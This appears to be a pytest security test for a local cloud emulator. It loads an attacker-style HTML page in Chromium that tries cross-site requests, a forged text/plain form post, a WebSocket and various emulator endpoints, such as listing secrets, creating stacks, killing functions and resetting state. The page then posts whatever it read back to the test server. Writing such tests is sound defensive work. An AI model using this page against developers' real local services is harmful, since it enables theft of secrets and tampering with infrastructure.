"""A page of another site, in a real browser, tries what pages can while the local cloud runs."""

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.browser import chromium, in_a_browser
from tests.downstream import Downstream, downstream
from tests.localcloud.harness import CODE_BUCKET, Deployed, eventually

__all__ = ["downstream"]

PAGE = """<!doctype html>
<iframe name="hole"></iframe>
<form id="form" target="hole" method="post" enctype="text/plain">
  <input name='{"Records": [{"by": "form", "x": "' value='"}]}'>
</form>
<script>
  const { cloud, invoke, probe, bucket, runtime } = FACTS;
  const credential = (service) => `AKIAINVENTED/20260101/us-east-1/${service}/aws4_request`;
  const aws = (service, body, headers) => ({
    method: "POST",
    headers: {
      "Authorization": `AWS4-HMAC-SHA256 Credential=${credential(service)}, Signature=0`,
      ...headers,
    },
    body,
  });
  const json = (target) => ({
    "Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": target,
  });
  const stack = (name) => new URLSearchParams({
    Action: "CreateStack", Version: "2010-05-15", StackName: name,
    TemplateBody: '{"Resources": {"Queue": {"Type": "AWS::SQS::Queue"}}}',
  });
  const event = '{"Records": [{"by": "fetch"}]}';
  const signed = `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=`;
  const plain = { mode: "no-cors", method: "POST" };
  const attempts = {
    tables: [cloud, aws("dynamodb", "{}", json("DynamoDB_20120810.ListTables"))],
    secrets: [cloud, aws("secretsmanager", "{}", json("secretsmanager.ListSecrets"))],
    stack: [cloud, aws("cloudformation", stack("asked-for"))],
    "stack by form": [`${cloud}/cloudformation_us-east-1/`, {...plain, body: stack("form")}],
    invoke: [cloud + invoke, {method: "POST", body: event}],
    "invoke blindly": [cloud + invoke, {...plain, body: event}],
    control: [`${cloud}/_localcloud/status`, {method: "POST", body: "{}"}],
    kill: [`${cloud}/_localcloud/kill`, {...plain, body: `{"function": "${probe}"}`}],
    object: [`${cloud}/${bucket}/probe.zip`, {}],
    presigned: [`${cloud}/${bucket}/probe.zip?${signed}${credential("s3")}`, {}],
    reset: [`${cloud}/moto-api/reset`, plain],
    "take an event": [`http://${runtime}/2018-06-01/runtime/invocation/next`, {mode: "no-cors"}],
  };
  async function attempt([address, options]) {
    try {
      const answer = await fetch(address, {...options, signal: AbortSignal.timeout(20000)});
      return await answer.text();
    } catch (error) {
      return "";
    }
  }
  function socket() {
    return new Promise((opened) => {
      const one = new WebSocket(cloud.replace("http", "ws"));
      one.onopen = () => opened("open");
      one.onclose = () => opened("");
    });
  }
  async function run() {
    const read = { socket: await socket() };
    for (const name in attempts) read[name] = await attempt(attempts[name]);
    hole.onload = async () => fetch("/read", {method: "POST", body: JSON.stringify(read)});
    form.action = cloud + invoke;
    form.submit();
  }
  const [hole, form] = document.querySelectorAll("iframe, form");
  run();
</script>
"""


@pytest.mark.prove
@in_a_browser
def test_a_page_of_another_site_reads_nothing_and_does_nothing(
    deployed: Deployed, downstream: Downstream, tmp_path: Path
) -> None:
    stacks = _stacks(deployed)
    before, _ = deployed.invoke("Probe", {})
    facts = {
        "cloud": deployed.cloud.endpoint,
        "invoke": f"/2015-03-31/functions/{deployed.ids['Listener']}/invocations",
        "probe": deployed.ids["Probe"],
        "bucket": CODE_BUCKET,
        "runtime": before["environment"]["AWS_LAMBDA_RUNTIME_API"],
    }
    downstream.headers = {"Content-Type": "text/html"}
    downstream.body = PAGE.replace("FACTS", json.dumps(facts)).encode()

    def told() -> dict[str, Any] | None:
        """Return the text that the page says it has read."""
        said = [one.body for one in downstream.requests if one.method == "POST"]
        return json.loads(said[0]) if said else None

    command = chromium(tmp_path, "--remote-debugging-port=0", downstream.url)
    with subprocess.Popen(command, stderr=subprocess.DEVNULL) as browser:
        try:
            read = eventually(told)
        finally:
            browser.terminate()

    assert {name: text for name, text in read.items() if text} == {}
    assert _stacks(deployed) == stacks
    assert deployed.received() == []
    after, _ = deployed.invoke("Probe", {})
    assert after["pid"] == before["pid"]


def _stacks(deployed: Deployed) -> list[str]:
    found = deployed.client("cloudformation").describe_stacks()["Stacks"]
    return [stack["StackName"] for stack in found]
